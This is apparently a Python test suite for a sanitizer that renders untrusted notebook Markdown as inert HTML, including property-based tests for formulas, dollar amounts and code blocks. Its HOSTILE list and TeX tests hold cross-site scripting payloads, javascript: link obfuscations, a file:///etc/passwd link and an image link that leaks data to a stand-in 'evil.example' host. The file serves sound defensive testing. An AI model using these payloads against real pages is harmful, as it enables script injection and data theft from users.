"""Untrusted Markdown renders as HTML that can do nothing."""

from __future__ import annotations

import html
import re
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, strategies as st
from markdown_it import MarkdownIt

from pi_native import ConfigurationError
from pi_native._notebook import sanitize
from pi_native._notebook.sanitize import escaped, safe_html

from ...characters import CHARACTERS

# Passes tags and links through, as notebooks do with Markdown: shows what a text could do.
UNSAFE = MarkdownIt("commonmark", {"html": True}).enable("table")
UNSAFE.validateLink = lambda _url: True  # type: ignore[method-assign]
UNSAFE.normalizeLink = lambda url: url  # type: ignore[method-assign]

HARMLESS = {
    *("p", "em", "strong", "code", "pre", "a", "h1", "h2", "ul", "ol", "li", "br", "hr", "s"),
    *("blockquote", "table", "thead", "tbody", "tr", "th", "td", "span", "div"),
}
ATTRIBUTES = {"href", "title", "class", "start", "style"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!-- <b> -->",
    "<?php ?>",
    "</p><iframe src='//evil.example'>",
    "<br onclick=alert(1)>",
    "<javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JavaScript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/",
    '[a]: b "\n```\n"\n<script>alert(1)</script>\n```',
    "```\n```\n<b>",
    "~~~\n```\n~~~\n<b>",
    "> ```html\n<b>\n",
    "1. x\n   ```html\n   <b>\n   ```\n\n<b>",
    "`` ` <b> `` <b>",
    "`x\n<b>` <b>",
    "$`$ <b> `$`",
    "$$ <b> $$",
    "$$\n<b>\n$$",
    "    x\n<b>",
]
PIECES = [
    *("<", ">", "b", "/b", "!", "?", "[", "]", "(", ")", ":", "&", "#106;", "colon;", '"', "$"),
    *("`", "``", "```", "~~~", "\n", "\n\n", "    ", " ", "> ", "- ", "\\", "|", "script", "java"),
    *("javascript", "JAVASCRIPT:", "[y]: ", "<b>", "![x](", "](x)", "\r\n", "\x00", "\ud83d", "x"),
    *("$$", "\\href{", "<br>"),
]


class Page(HTMLParser):
    """The content of a page, as a browser finds it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.schemes: set[str] = set()
        self.formulas: list[str] = []
        self.text = ""
        self._open: list[bool] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag, its attributes and the schemes of its links."""
        self.tags.add(tag)
        if ("class", "mathjax_process tex2jax_process") in attrs:
            self.formulas.append("")
        for name, value in attrs:
            self.attributes.add(name)
            address = re.sub(r"[\x00-\x20]", "", value or "")
            self.schemes |= set(re.findall(r"\A([A-Za-z][A-Za-z0-9+.-]*):", address.lower()))
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", value or "")

    def handle_comment(self, data: str) -> None:
        """Note a comment, which could hide the text after it."""
        self.tags.add(f"<!--{data}")

    def handle_pi(self, data: str) -> None:
        """Note a processing instruction."""
        self.tags.add(f"<?{data}")

    def handle_data(self, data: str) -> None:
        """Note the text."""
        self.text += data
        if self.formulas and not self.formulas[-1]:
            self.formulas[-1] = data


def assert_harmless(page: str) -> None:
    """Check that the page has only what Markdown is for, and that no formula has attributes."""
    found = Page(page)
    assert found.tags <= HARMLESS
    assert found.attributes <= ATTRIBUTES
    assert found.schemes <= {"http", "https", "mailto"}
    for formula in found.formulas:
        assert not re.search(r"\\(href|require|mmlToken|style|class)\b", formula)


@pytest.mark.parametrize("text", HOSTILE)
def test_active_content_is_text(text: str) -> None:
    """A page has no tag, remote image or script link of the model's."""
    assert_harmless(safe_html(text))


@pytest.mark.parametrize("text", [text for text in HOSTILE if "\x01" not in text])
def test_the_check_can_fail(text: str) -> None:
    """Each hostile text does something in a page that passes everything through."""
    with pytest.raises(AssertionError):
        assert_harmless(UNSAFE.render(text) + text)


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_no_combination_of_marks_is_active(text: str) -> None:
    """The page stays harmless for any marks in any order."""
    assert_harmless(safe_html(text))


@given(
    st.lists(st.sampled_from([*"abc", "$", " ", "\\", "<", "\n", "5"]), max_size=24).map("".join)
)
def test_no_letter_or_digit_is_lost(text: str) -> None:
    """The page shows every letter and digit of the Markdown, in order."""
    shown = re.sub(r"[^abc5]", "", Page(safe_html(text)).text)
    assert shown == re.sub(r"[^abc5]", "", text)


@pytest.mark.parametrize(
    ("markdown", "page"),
    [
        ("*Light* of **day**", "<p><em>Light</em> of <strong>day</strong></p>\n"),
        ("~~not~~", "<p><s>not</s></p>\n"),
        ("[x](https://a.b/?c=1&d=2)", '<p><a href="https://a.b/?c=1&amp;d=2">x</a></p>\n'),
        ("[x](mailto:a@b.c)", '<p><a href="mailto:a@b.c">x</a></p>\n'),
        ("[x](notes/a.md#b)", '<p><a href="notes/a.md#b">x</a></p>\n'),
        ("<https://a.b>", '<p><a href="https://a.b">https://a.b</a></p>\n'),
        ("a<br>b<BR />c", "<p>a<br />\nb<br />\nc</p>\n"),
        ("`Vec<String>`", "<p><code>Vec&lt;String&gt;</code></p>\n"),
        ("Vec<String> <!-- x -->", "<p>Vec&lt;String&gt; &lt;!-- x --&gt;</p>\n"),
        ("AT&T &amp; &nbsp;", "<p>AT&amp;T &amp; \u00a0</p>\n"),
        ("![chart](https://a.b)", '<p>!<a href="https://a.b">chart</a></p>\n'),
    ],
)
def test_markdown_renders(markdown: str, page: str) -> None:
    """Harmless Markdown renders as usual, and tags show as text."""
    assert safe_html(markdown) == page


@pytest.mark.parametrize(
    "markdown",
    [
        "$a < b$",
        "$1/\\lambda^4$",
        "$x*y*z$",
        "$a_1 + b_1$",
        "$\\{a\\}$",
        "$$\\sum_{i<9} i$$",
        "$5$",
        "$5 + x$",
    ],
)
def test_a_formula_stays_as_it_is(markdown: str) -> None:
    """Markdown rules do not apply inside a formula."""
    assert Page(safe_html(f"So {markdown} is")).formulas == [markdown]
    assert Page(safe_html(markdown)).formulas == [markdown]


@pytest.mark.parametrize("around", ["{}", "Text\n{}\ntext", "> {}", "1. {}"])
def test_a_formula_of_several_lines_stays_as_it_is(around: str) -> None:
    """Lines of a formula are no list items and no headings, also in a quote or a list."""
    indent = {">": "> ", "1": "   "}.get(around[0], "")
    formula = "$$\na\n= b\n+ c\n---\n$$"
    page = safe_html(around.format(formula.replace("\n", "\n" + indent)))
    assert Page(page).formulas == [formula]


@pytest.mark.parametrize(
    "markdown",
    [
        "costs $5 a month, the large one $10",
        "$5-$10",
        "between $5 and $10.",
        "US$5/US$10",
        "$5, $6 and $7",
        "$ 5 $",
        "a $5 bill and $x",
        "`$a$` and ``$b$``",
        "```\n$a$\n```",
        "    $a$",
        "\\$a\\$",
    ],
)
def test_an_amount_of_money_is_no_formula(markdown: str) -> None:
    """Dollar signs before amounts, in code and after a backslash are text."""
    page = Page(safe_html(markdown))
    assert page.formulas == []
    assert page.text.count("$") == markdown.count("$")


def test_money_and_a_formula_in_one_sentence() -> None:
    """An amount before a formula does not change where the formula begins."""
    assert Page(safe_html("It costs $5 (or $x$).")).formulas == ["$x$"]


@pytest.mark.parametrize(
    "tex",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\newcommand{\x}[1]{\href{#1script:alert(1)}{y}}\x{java}",
        r"\mmlToken{mi}[href=javascript:alert(1)]{x}",
        r"\style{background:url(https://evil.example)}{x}",
        r"\require{html}x",
        r"\class{a}{x}",
        r"\htmlData{a=b}{x}",
    ],
)
@pytest.mark.parametrize("sign", ["$", "$$"])
def test_a_formula_with_links_or_attributes_is_code(tex: str, sign: str) -> None:
    """TeX commands that set attributes or load commands are not given to MathJax."""
    page = Page(safe_html(f"{sign}{tex}{sign}"))
    assert page.formulas == []
    assert tex in page.text


@pytest.mark.parametrize("tex", [r"\hrefs", r"\classic", r"\dataset{x}"])
def test_other_tex_commands_are_formulas(tex: str) -> None:
    """A command whose name only begins like an unsafe one stays a formula."""
    assert Page(safe_html(f"${tex}$")).formulas == [f"${tex}$"]


def test_code_with_tags_reads_as_it_did() -> None:
    """A code block that holds tags shows character for character."""
    code = '<p class="x">\n\n  *a* &amp; `b`\n</p>\n'
    page = Page(safe_html(f"Look:\n```html\n{code}```\nand *on*."))
    assert page.text == f"Look:\n{code}\nand on.\n"
    assert {"pre", "code", "em"} <= page.tags


def test_a_code_block_without_end_is_closed() -> None:
    """An open code block, as in mid-stream, ends with its text."""
    page = safe_html("```python\nx = 1")
    assert page.startswith("<pre><code")
    assert page.endswith("</code></pre>\n")


def test_deep_nesting_renders() -> None:
    """Ten thousand nested quotes neither fail nor take long."""
    assert safe_html("> " * 10_000 + "x")


def test_characters_that_a_page_cannot_hold_are_replaced() -> None:
    """Control characters and halves of surrogate pairs become replacement characters."""
    assert safe_html("a\x1b[0m \ud83d") == "<p>a\ufffd[0m \ufffd</p>\n"
    assert safe_html("\ud83d\ude00") == "<p>\U0001f600</p>\n"


@given(st.text(CHARACTERS) | st.lists(st.sampled_from(PIECES)).map("".join))
def test_an_escaped_text_is_only_text(text: str) -> None:
    """No parser finds a tag in it, and the page shows it as it was."""
    page = Page(f"<p>{escaped(text)}</p>")
    assert page.tags == {"p"}
    assert html.unescape(escaped(text)) == sanitize.whole_characters(text)


def test_without_markdown_it_the_extra_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """The error names the extra to install."""
    monkeypatch.setitem(sys.modules, "markdown_it", None)
    monkeypatch.setattr(sanitize, "_parser", sanitize._parser.__wrapped__)
    with pytest.raises(ConfigurationError, match=r"pip install '.*\[jupyter\]'"):
        safe_html("Hi")
